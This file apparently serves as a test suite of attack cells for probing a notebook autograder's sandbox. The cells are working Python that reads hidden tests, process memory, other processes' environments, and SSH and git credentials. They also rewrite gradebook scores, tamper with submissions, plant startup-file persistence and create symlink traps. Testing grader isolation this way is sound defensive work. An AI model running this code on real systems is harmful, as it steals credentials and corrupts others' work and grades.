# Attempts to read what students must not see: hidden tests, others' work, the host. What is found
# is printed, or stands in an answer.

# %% attack="reads_the_history" place="answer"
# The source of the running cell, in IPython's history.
def nesterov(w, dw, config=None):
    shell = get_ipython()
    print(shell.user_ns.get("In", [""])[-1], shell.user_ns.get("_i"), shell.user_ns.get("_ih"))
    for session in shell.history_manager.get_range(raw=False):
        print(session)
    raise ValueError(shell.user_ns.get("In", [""])[-1])


# %% attack="reads_the_frames" place="answer"
# The source, the constants and the variables of the callers.
def nesterov(w, dw, config=None):
    import inspect
    import linecache
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        code = frame.f_code
        print(code.co_filename, code.co_consts, linecache.getlines(code.co_filename))
        print([str(value)[:2000] for key, value in frame.f_globals.items() if key != "WON"])
        try:
            print(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    return w, config


# %% attack="reads_the_heap" place="answer"
# Every text and every piece of code that Python still knows.
def nesterov(w, dw, config=None):
    import gc
    import types

    for value in gc.get_objects():
        if isinstance(value, (list, tuple)) and len(value) < 1000:
            texts = [one for one in value if isinstance(one, str) and "HIDDEN" in one]
        elif isinstance(value, dict):
            texts = [
                one for one in list(value.values()) if isinstance(one, str) and "HIDDEN" in one
            ]
        elif isinstance(value, types.FunctionType):
            texts = [c for c in value.__code__.co_consts if isinstance(c, str) and "HIDDEN" in c]
        else:
            texts = ()
        for text in texts:
            print(text[-2000:])
    return w, config


# %% attack="traces"
# Every line that runs from here on, by sys.settrace, and the constants beside it.
import sys
import threading

seen = set()


def trace(frame, event, arg):
    code = frame.f_code
    if code not in seen and "site-packages" not in code.co_filename:
        seen.add(code)
        print(code.co_name, code.co_consts)
    return trace


threading.settrace(trace)
sys.settrace(trace)
get_ipython().events.register("pre_run_cell", lambda info: sys.settrace(trace))


# %% attack="profiles" place="answer"
# Every call that comes, by sys.setprofile, set in a call from a test.
def nesterov(w, dw, config=None):
    import sys

    def profile(frame, event, arg):
        if event == "call" and "helpers" in frame.f_code.co_filename:
            print(frame.f_back.f_code.co_consts)
        if event in ("call", "return"):
            caller = frame.f_back
            while caller is not None:
                if caller.f_code.co_name == "<module>":
                    print(caller.f_code.co_consts)
                caller = caller.f_back

    sys.setprofile(profile)
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_trace = lambda *a: print(a[0].f_code.co_consts)
        frame = frame.f_back
    return w, config


# %% attack="listens_to_audits"
# The source of each cell as it is compiled, by an audit hook that cannot be taken out again.
import sys


def hook(event, arguments):
    if event == "compile" and arguments and arguments[0]:
        source = arguments[0]
        print(source[-3000:] if isinstance(source, (str, bytes)) else source)
    elif event == "exec":
        print(arguments[0].co_consts)


sys.addaudithook(hook)

# %% attack="reads_the_disk"
# Every notebook from the working directory upwards and below the course, and each one's cells.
import glob
import os

places = [COURSE, *("/".join([".."] * n) or "." for n in range(8))]
for place in places:
    for path in (
        glob.glob(f"{place}/*.ipynb")
        + glob.glob(f"{place}/source/*/*.ipynb")
        + glob.glob(f"{place}/autograded/*/*/*.ipynb")
        + glob.glob(f"{place}/submitted/*/*/*.ipynb")
    ):
        try:
            print(path, open(path).read())
        except OSError as error:
            print(error.strerror)

# %% attack="reads_its_memory"
# The memory of its own process, in which what was there before a fork may still stand.
import re

try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            begin, end = (int(x, 16) for x in line.split()[0].split("-"))
            if " rw" not in line or end - begin > 200_000_000:
                continue
            try:
                memory.seek(begin)
                held = memory.read(end - begin)
            except (OSError, ValueError, OverflowError):
                continue
            for found in re.finditer(rb"canary-\w+-[0-9a-f]{8}|BEGIN HIDDEN", held):
                print(held[max(0, found.start() - 50) : found.end() + 200])
except OSError as error:
    print(error.strerror)

# %% attack="reads_other_processes"
# What other processes show of themselves: command lines, environments, memory, open files.
import glob
import os

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/cwd"):
    try:
        print(open(path, "rb").read() if path.endswith("environ") else os.listdir(path))
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(path)
        if "/" in target and os.path.isfile(path) and os.path.getsize(path) < 10_000_000:
            print(target, open(path, "rb").read())
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if "pytest" in (line := open(path).read()) or "ravine" in line:
            print(WON, "sees the grading run")
    except OSError:
        pass


# %% attack="reads_its_descriptors" place="answer" spoils="true"
# Everything in each file and each channel that is open, from the beginning.
def nesterov(w, dw, config=None):
    import os
    import socket

    for fd in range(3, 256):
        try:
            os.lseek(fd, 0, 0)
            print(os.read(fd, 1_000_000))
        except OSError:
            pass
        try:
            channel = socket.socket(fileno=os.dup(fd))
            channel.setblocking(False)
            print(channel.recv(1_000_000))
        except OSError:
            pass
    return w, config


# %% attack="reads_the_home"
# The home folder, the environment and the accounts of whoever grades.
import os
import pwd

print(dict(os.environ))
for home in {os.path.expanduser("~"), "/root", *(entry.pw_dir for entry in pwd.getpwall())}:
    for name in ("secret.txt", ".bashrc", ".ssh/id_rsa", ".netrc", ".git-credentials"):
        for place in (home, HOME):
            try:
                print(open(os.path.join(place, name)).read())
            except OSError:
                pass

# %% attack="writes_the_gradebook"
# All points for everybody, written into the gradebook, and its tables printed.
import glob
import sqlite3

for path in (f"{COURSE}/gradebook.db", *glob.glob("../" * 3 + "*.db"), *glob.glob("*.db")):
    try:
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
        for (source,) in book.execute("SELECT source FROM source_cell"):
            print(source)
        book.execute("UPDATE grade SET auto_score = 24, manual_score = 24")
        book.execute("UPDATE comment SET manual_comment = ?", (MARK,))
        book.commit()
        print(WON, "wrote", path)
    except sqlite3.Error as error:
        print(error)

# %% attack="writes_the_course"
# Its answers into others' submissions; hidden tests that pass into source/; code into helpers/.
import glob
import os

targets = [
    *glob.glob(f"{COURSE}/submitted/*/*/*.ipynb"),
    *glob.glob(f"{COURSE}/source/*/*.ipynb"),
    f"{COURSE}/nbgrader_config.py",
]
try:
    import helpers.checks

    targets.append(helpers.checks.__file__)
except ImportError:
    pass
for path in targets:
    try:
        os.utime(path)
        with open(path, "r+b") as file:
            print(WON, "could have written", path)
    except OSError as error:
        print(error.strerror)

# %% attack="stays_for_the_next"
# Code that the next Python, the next IPython and the next shell would run.
import os
import site
import sys

homes = {os.path.expanduser("~"), HOME}
packages = [*site.getsitepackages(), site.getusersitepackages(), sys.prefix]
code = f"open({OUTSIDE + '/' + MARK + '-ran'!r}, 'w').close()\n"
for home in homes:
    for name in (f".ipython/profile_default/startup/{MARK}.py", f".pythonrc-{MARK}"):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), "w").write(code)
        except OSError:
            pass
for folder in packages:
    try:
        open(os.path.join(folder, f"{MARK}.pth"), "w").write("import os\n")
    except OSError:
        pass

# %% attack="links_in_its_scratch"
# Links and special files in the working directory, to be followed by whoever cleans or copies it.
import os

for target, name in ((COURSE, "course"), ("/etc/passwd", "copy.ipynb"), (OUTSIDE, "outside")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
try:
    os.mkfifo("pipe.ipynb")
    os.mknod("device.ipynb", 0o666 | 0o020000, os.makedev(1, 5))
except OSError:
    pass
os.makedirs("closed/inside", exist_ok=True)
os.chmod("closed", 0)
open(f"{MARK}-here.ipynb", "w").write("{}")
